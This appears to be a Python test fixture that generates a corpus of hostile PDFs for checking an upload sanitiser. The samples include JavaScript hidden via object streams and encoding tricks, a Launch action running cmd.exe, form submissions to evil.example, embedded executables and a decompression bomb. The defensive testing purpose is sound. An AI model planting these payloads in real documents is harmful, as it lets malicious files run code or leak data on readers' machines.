"""The hostile PDF corpus: every trick that hides active content from a byte scan or makes a
desktop reader run something, built here byte by byte (nothing downloaded, nothing copied).

``CORPUS`` maps a name to ``(bytes, expected)``: ``"clean"`` when the upload must be accepted
and stored without any active content, otherwise the refusal's code. Every PDF has one page
whose text is :data:`PAGE_TEXT`, so a test can check the page survived the clean-up.

Run ``python tests/hostile_pdfs.py DIR`` to write the corpus to DIR (to try it in a reader).
"""

from __future__ import annotations

import io
import sys
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

import pikepdf

PAGE_TEXT = "Giay khai sinh"
PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (" + PAGE_TEXT.encode() + b") Tj ET"
JS = b"(app.alert('pwned'); this.submitForm('http://evil.example/collect');)"
CATALOG = b"/Type /Catalog /Pages 2 0 R"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page(extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + extra + b">>"
    )


def stream(dictionary: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(content), content)


def flate(data: bytes) -> bytes:
    return zlib.compress(data)


def png_up(data: bytes, columns: int) -> bytes:
    """``data`` encoded with the PNG "Up" predictor (filter type 2) in rows of ``columns``."""
    data += b" " * (-len(data) % columns)
    out = bytearray()
    previous = bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        out.append(2)
        out += bytes((a - b) % 256 for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


def document(
    *objects: bytes,
    packed: dict[int, bytes] | None = None,
    objstm_dict: bytes = b"/Type /ObjStm /Filter /FlateDecode",
    encode: Callable[[bytes], bytes] = flate,
) -> bytes:
    """A PDF whose objects 1.. are ``objects`` (1 the catalogue, 2 the page tree, 3 the page,
    4 its content, 5 its font), written plainly, plus ``packed`` objects (number → body)
    hidden in one object stream encoded with ``encode``, found through an xref stream."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for number in range(1, len(objects) + 1):
            out += b"%010d 00000 n \n" % offsets[number]
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
        return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)

    objstm = max(len(objects), *packed) + 1
    header = bytearray()
    body = bytearray()
    for number, packed_body in packed.items():
        header += b"%d %d " % (number, len(body))
        body += packed_body + b"\n"
    content = bytes(header) + bytes(body)
    first = len(header)
    encoded = encode(content)
    offsets[objstm] = len(out)
    out += b"%d 0 obj\n" % objstm
    out += stream(b"%s /N %d /First %d" % (objstm_dict, len(packed), first), encoded)
    out += b"\nendobj\n"
    xref_number = objstm + 1
    size = xref_number + 1
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff")
    index = {number: i for i, number in enumerate(packed)}
    for number in range(1, size):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in index:
            rows += b"\x02" + objstm.to_bytes(4, "big") + index[number].to_bytes(2, "big")
        else:
            rows += b"\x00" + (0).to_bytes(4, "big") + b"\x00\x00"
    xref_dict = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size
    out += b"%d 0 obj\n" % xref_number + stream(xref_dict, bytes(rows)) + b"\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """The one-page document with extra catalogue/page entries and objects 6.. ``more``."""
    return document(
        b"<< " + CATALOG + b" " + catalog_extra + b" >>",
        PAGES,
        page(page_extra),
        stream(b"", PAGE_CONTENT),
        FONT,
        *more,
    )


def open_action(action: bytes) -> bytes:
    return one_page(b"/OpenAction " + action)


def hidden_open_action(
    action: bytes,
    objstm_dict: bytes = b"/Type /ObjStm /Filter /FlateDecode",
    encode: Callable[[bytes], bytes] = flate,
) -> bytes:
    """/OpenAction 6 0 R, object 6 packed in an object stream the raw bytes never show."""
    return document(
        b"<< " + CATALOG + b" /OpenAction 6 0 R >>",
        PAGES,
        page(),
        stream(b"", PAGE_CONTENT),
        FONT,
        packed={6: action},
        objstm_dict=objstm_dict,
        encode=encode,
    )


def link(action: bytes, extra: bytes = b"") -> bytes:
    """A page with one link annotation (object 6) whose /A is ``action``."""
    return one_page(
        b"",
        b"/Annots [6 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A "
        + action
        + b" "
        + extra
        + b" >>",
    )


def with_pikepdf(build: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    """The plain one-page document changed by ``build`` and saved by pikepdf."""
    with pikepdf.open(io.BytesIO(one_page())) as pdf:
        build(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _js_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def incremental_update(base: bytes, catalog: bytes) -> bytes:
    """``base`` (a classic-xref PDF) followed by an update that rewrites object 1."""
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out = bytearray(base)
    offset = len(out)
    out += b"1 0 obj\n" + catalog + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % previous
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)


JS_ACTION = b"<< /S /JavaScript /JS " + JS + b" >>"
EMBEDDED_EXE = stream(
    b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", b"MZ\x90\x00 not really an exe"
)


def _corpus() -> dict[str, tuple[bytes, str]]:
    clean = "clean"
    corpus = {
        # JavaScript when the document opens, hidden in more and more ways.
        "js-open-action-plain": (open_action(JS_ACTION), clean),
        "js-open-action-in-object-stream": (hidden_open_action(JS_ACTION), clean),
        "js-hex-escaped-names": (
            hidden_open_action(
                b"<< /S /J#61vaScript /J#53 " + JS + b" >>",
                objstm_dict=b"/Type /Obj#53tm /Filter /Fl#61teDecode",
            ),
            clean,
        ),
        "js-flate-twice": (
            hidden_open_action(
                JS_ACTION,
                objstm_dict=b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]",
                encode=lambda data: flate(flate(data)),
            ),
            clean,
        ),
        "js-png-predictor": (
            hidden_open_action(
                JS_ACTION,
                objstm_dict=(
                    b"/Type /ObjStm /Filter /FlateDecode "
                    b"/DecodeParms << /Predictor 12 /Columns 7 >>"
                ),
                encode=lambda data: flate(png_up(data, 7)),
            ),
            clean,
        ),
        "js-names-tree": (
            one_page(b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>", b"", JS_ACTION),
            clean,
        ),
        "js-next-chain-after-goto": (
            open_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + JS_ACTION + b"] >>"),
            clean,
        ),
        "js-in-outline": (
            one_page(
                b"/Outlines 6 0 R",
                b"",
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Trang 1) /Parent 6 0 R /A " + JS_ACTION + b" >>",
            ),
            clean,
        ),
        "js-incremental-update": (
            incremental_update(one_page(), b"<< " + CATALOG + b" /OpenAction " + JS_ACTION + b">>"),
            clean,
        ),
        "js-saved-by-pikepdf-with-object-streams": (
            with_pikepdf(_js_open_action, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            clean,
        ),
        # Additional actions: on the catalogue, a page, an annotation, a form field.
        "aa-catalog": (one_page(b"/AA << /WC " + JS_ACTION + b" >>"), clean),
        "aa-page": (one_page(b"", b"/AA << /O " + JS_ACTION + b" /C " + JS_ACTION + b" >>"), clean),
        "aa-annotation": (
            link(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"/AA << /E " + JS_ACTION + b" >>"),
            clean,
        ),
        "aa-form-field": (
            one_page(
                b"/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>",
                b"/Annots [6 0 R]",
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /Rect [72 600 300 620] "
                b"/P 3 0 R /AA << /K " + JS_ACTION + b" /C " + JS_ACTION + b" >> >>",
            ),
            clean,
        ),
        # Reaching out of the document.
        "launch": (
            open_action(
                b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> "
                b"/NewWindow true >>"
            ),
            clean,
        ),
        "uri-link": (link(b"<< /S /URI /URI (http://evil.example/?from=pdf) >>"), clean),
        "uri-open-action": (open_action(b"<< /S /URI /URI (http://evil.example/) >>"), clean),
        "submit-form": (
            open_action(
                b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> /Flags 4 >>"
            ),
            clean,
        ),
        "reset-form": (link(b"<< /S /ResetForm >>"), clean),
        "import-data": (
            open_action(b"<< /S /ImportData /F (\\\\\\\\server\\\\share\\\\x.fdf) >>"),
            clean,
        ),
        "gotor-network-share": (
            open_action(b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
            clean,
        ),
        "gotor-smb-link": (
            link(b"<< /S /GoToR /F << /FS /URL /F (smb://server/share/x.pdf) >> /D [0 /Fit] >>"),
            clean,
        ),
        "gotoe": (
            open_action(b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>"),
            clean,
        ),
        "named-menu-item": (link(b"<< /S /Named /N /SaveAs >>"), clean),
        "rendition": (open_action(b"<< /S /Rendition /OP 0 /JS " + JS + b" >>"), clean),
        "thread-to-other-file": (open_action(b"<< /S /Thread /F (other.pdf) /D 0 >>"), clean),
        "unknown-action-type": (open_action(b"<< /S /MakeCoffee /Type /Action >>"), clean),
        # Files and media inside the document.
        "embedded-file": (
            one_page(
                b"/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 6 0 R] >> >> /AF [6 0 R]",
                b"",
                b"<< /Type /Filespec /F (hoa-don.exe) /UF (hoa-don.exe) /EF << /F 7 0 R >> >>",
                EMBEDDED_EXE,
            ),
            clean,
        ),
        "file-attachment-annotation": (
            one_page(
                b"",
                b"/Annots [6 0 R]",
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
                EMBEDDED_EXE,
            ),
            clean,
        ),
        "portfolio": (
            one_page(b"/Collection << /Type /Collection /View /D >>"),
            clean,
        ),
        "xfa": (
            one_page(
                b"/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
                b"",
                stream(
                    b"",
                    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                    b'<script contentType="application/x-javascript">app.alert(1)</script>'
                    b"</template></xdp:xdp>",
                ),
            ),
            clean,
        ),
        "rich-media": (
            one_page(
                b"",
                b"/Annots [6 0 R 7 0 R]",
                b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] "
                b"/RichMediaContent << /Assets << /Names [(a.swf) 8 0 R] >> >> >>",
                b"<< /Type /Annot /Subtype /3D /Rect [72 300 300 480] /3DD 9 0 R >>",
                b"<< /Type /Filespec /F (a.swf) /EF << /F 9 0 R >> >>",
                stream(b"/Type /3D /Subtype /U3D", b"U3D\x00 not really a model"),
            ),
            clean,
        ),
        "screen-and-sound": (
            one_page(
                b"",
                b"/Annots [6 0 R 7 0 R]",
                b"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] "
                b"/A << /S /Rendition /OP 0 >> >>",
                b"<< /Type /Annot /Subtype /Sound /Rect [0 0 10 10] /Sound 8 0 R >>",
                stream(b"/Type /Sound /R 8000", b"\x00" * 16),
            ),
            clean,
        ),
        "postscript-xobject": (
            one_page(
                b"",
                b"/Resources << /Font << /F1 5 0 R >> /XObject << /P1 6 0 R >> >>",
                stream(b"/Type /XObject /Subtype /PS", b"(pwned) print"),
            ),
            clean,
        ),
        "permissions-only-encryption-with-js": (
            with_pikepdf(
                _js_open_action,
                encryption=pikepdf.Encryption(owner="chu-so-huu", user="", R=6),
            ),
            clean,
        ),
        # Refused.
        "encrypted-with-password": (
            with_pikepdf(
                lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="mat-khau", R=6)
            ),
            "encrypted_pdf",
        ),
        "truncated": (open_action(JS_ACTION)[:-300], "bad_pdf"),
        "truncated-with-eof-kept": (
            hidden_open_action(JS_ACTION)[:400] + b"\n%%EOF\n",
            "bad_pdf",
        ),
        "no-page": (
            document(
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS_ACTION + b" >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>",
            ),
            "bad_pdf",
        ),
        "object-stream-bomb-flate-twice": (
            hidden_open_action(
                JS_ACTION + b" " * (64 * 1024 * 1024),
                objstm_dict=b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]",
                encode=lambda data: flate(zlib.compress(data, 9)),
            ),
            "uncheckable_pdf",
        ),
    }
    return corpus


CORPUS = _corpus()


def write(directory: Path, names: Sequence[str] = ()) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for name, (data, _) in CORPUS.items():
        if not names or name in names:
            (directory / f"{name}.pdf").write_bytes(data)


if __name__ == "__main__":
    write(Path(sys.argv[1]), sys.argv[2:])
